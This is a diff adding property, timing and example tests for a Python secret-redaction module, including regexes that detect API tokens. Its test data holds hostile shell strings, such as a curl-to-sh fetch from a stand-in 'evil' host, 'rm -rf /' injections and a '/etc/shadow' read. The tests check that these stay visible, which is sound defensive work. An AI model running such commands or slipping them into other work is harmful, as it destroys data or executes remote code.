@@ -2,6 +2,9 @@
 
 from __future__ import annotations
 
+import re
+import time
+
 import pytest
 from hypothesis import assume, given
 from hypothesis import strategies as st
@@ -14,6 +17,7 @@ from interlock.config import (
     redact_pair,
     redact_server,
 )
+from interlock.config.redaction import MASK, is_secret_value, mask, redact_words
 
 
 @pytest.mark.parametrize(
@@ -174,3 +178,114 @@ def test_long_lines_of_keys_are_read_once(key: str) -> None:
 def test_a_long_key_is_judged_by_its_end() -> None:
     assert not is_secret_key("a" * 100_000 + "0a")
     assert is_secret_key("a" * 100_000 + "_pass")
+
+
+# -- what is looked for, said in expressions that take long over some texts
+
+_REFERENCE_OR_KEY = re.compile(
+    r"\$\{[^}\n]*\}|(?<![\w.-])(?P<key>[\w.-]+)(?P<gap>[\"']?\s{0,4}[:=]\s{0,4})"
+)
+_VALUE = re.compile(
+    r"\"[^\"\n]*\"|'[^'\n]*'|(?:(?:Bearer|Basic|Token|Digest)\s{1,4})?[^\s,;&\"']+", re.IGNORECASE
+)
+_SENTENCE = re.compile(
+    r"(?:the|a|an|it|is|are|was|no|not|this|that|there|cannot|must|may|has|needs)[ \t]+[A-Za-z]",
+    re.IGNORECASE,
+)
+_USERINFO = re.compile(r"(?<=://)(?P<user>[^\s/?#@:]*):(?P<password>[^\s/?#@]+)@")
+_FLAG = re.compile(r"(?<!\S)(?P<flag>--?[\w-]+)(?P<gap>\s{1,4})(?P<value>[^\s-]\S*)")
+_KNOWN = re.compile(
+    r"\b(?:sk-[A-Za-z0-9_-]{16,}|gh[pousr]_[A-Za-z0-9]{20,}|github_pat_[A-Za-z0-9_]{20,}"
+    r"|glpat-[A-Za-z0-9_-]{16,}|xox[abeoprs]-[A-Za-z0-9-]{10,}|AKIA[A-Z0-9]{16}"
+    r"|ilk_[A-Za-z0-9_-]{16,}|AIza[A-Za-z0-9_-]{30,}"
+    r"|eyJ[A-Za-z0-9_-]{8,}\.[A-Za-z0-9_-]{8,}\.[A-Za-z0-9_-]*)"
+)
+
+
+def slowly(text: str) -> str:
+    def flag(match: re.Match[str]) -> str:
+        secret = is_secret_key(match["flag"])
+        return f"{match['flag']}{match['gap']}{mask(match['value'])}" if secret else match[0]
+
+    text = _USERINFO.sub(lambda m: f"{m['user']}:{mask(m['password'])}@", text)
+    shown, position = "", 0
+    while match := _REFERENCE_OR_KEY.search(text, position):
+        end, key = match.end(), match["key"]
+        said = match["gap"] == ": " and _SENTENCE.match(text, end)
+        value = None if key is None or not is_secret_key(key) or said else _VALUE.match(text, end)
+        shown += text[position:end]
+        if value is not None:
+            quote = value[0][0] if value[0][0] in "\"'" else ""
+            shown += quote + mask(value[0][1:-1] if quote else value[0]) + quote
+            end = value.end()
+        position = end
+    return _KNOWN.sub(MASK, _FLAG.sub(flag, shown + text[position:]))
+
+
+_PIECES = [
+    "${", "}", "$", "\n", " ", "eyJ", "eyJhbGciOiJI", "abcdefgh", ".", "..", "-", "_", "é",
+    "sk-", "sk-" + "a" * 16, "ghp_" + "b" * 20, "AKIA" + "C" * 16, "token", "password", "key",
+    "name", "=", ": ", ":", "\"", "'", "the ", "Bearer ", "--token ", "--name ", "-", "hunter2",
+    "https://me:", "@", "/", "${env:X}", "${env:X:-hunter2}", "$${", ";", "&", ",", "(", "|",
+]  # fmt: skip
+
+
+@given(st.lists(st.sampled_from(_PIECES), max_size=30).map("".join))
+def test_nothing_is_masked_otherwise_than_it_ever_was(text: str) -> None:
+    assert redact(text) == slowly(text)
+    assert is_secret_value(text) is bool(_KNOWN.search(text) or _USERINFO.search(text))
+
+
+@given(st.lists(st.sampled_from(_PIECES), max_size=30).map("".join))
+def test_what_is_nothing_but_a_secret_is_masked_by_both(text: str) -> None:
+    # Where the one hides something, the other does.
+    assert redact_words(text) == text or redact(text) != text
+
+
+@pytest.mark.parametrize(
+    "text",
+    [
+        "${a" * 40_000,
+        "${a\n" * 40_000,
+        "eyJaaaaaaaa-" * 20_000,
+        "eyJaaaaaaaa-" * 10_000 + "." + "a" * 100_000,
+        "token:" * 20_000 + "$(x",
+        "token='" * 20_000,
+        'token="token:' * 20_000,
+        "password=" + "a" * 200_000 + "(",
+        "--token --token " * 10_000,
+        "https://a:" * 20_000,
+    ],
+    ids=range(10),
+)
+@pytest.mark.parametrize("look", [redact, redact_words, is_secret_value])
+def test_no_text_takes_long(look: object, text: str) -> None:
+    before = time.process_time()
+    assert callable(look)
+    look(text)
+    # Some hundredths of a second. What is read to its end at every beginning takes half a minute.
+    assert time.process_time() - before < 3
+
+
+@pytest.mark.parametrize(
+    ("text", "shown"),
+    [
+        ("password=hunter2", "password=***"),
+        ("mysql --password hunter2 -e 'DROP'", "mysql --password *** -e 'DROP'"),
+        ('{"api_key": "hunter2", "x": 1}', '{"api_key": "***", "x": 1}'),
+        ("Authorization: Bearer abc/def==", "Authorization: Bearer ***"),
+        ("key: password=hunter2", "key: password=***"),
+        ("psql postgres://me:hunter2@db/x", "psql postgres://me:***@db/x"),
+        ("use sk-" + "a" * 20, "use ***"),
+        # What these do has to be seen.
+        ("DELETE FROM t WHERE key=5", "DELETE FROM t WHERE key=5"),
+        ("token=$(curl${IFS}evil|sh)", "token=$(curl${IFS}evil|sh)"),
+        ("echo 'token=\"' ; rm -rf / ; echo '\"'", "echo 'token=\"' ; rm -rf / ; echo '\"'"),
+        ("token=/etc/shadow", "token=/etc/shadow"),
+        ("token=http://evil.example/x", "token=http://evil.example/x"),
+        ("sk-" + "a" * 20 + " key='; rm -rf /'", "*** key='; rm -rf /'"),
+        ("max_tokens=5", "max_tokens=5"),
+    ],
+)
+def test_only_what_is_nothing_but_a_secret(text: str, shown: str) -> None:
+    assert redact_words(text) == shown
